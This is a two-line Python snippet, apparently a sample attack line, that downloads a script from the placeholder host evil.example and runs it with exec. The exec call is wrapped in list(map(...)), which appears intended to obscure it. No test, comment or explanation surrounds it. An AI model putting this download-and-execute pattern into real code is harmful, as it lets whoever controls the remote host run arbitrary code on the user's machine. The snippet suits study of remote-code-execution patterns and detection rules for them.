from urllib.request import urlopen
list(map(exec, [urlopen('https://evil.example/p.py').read()]))
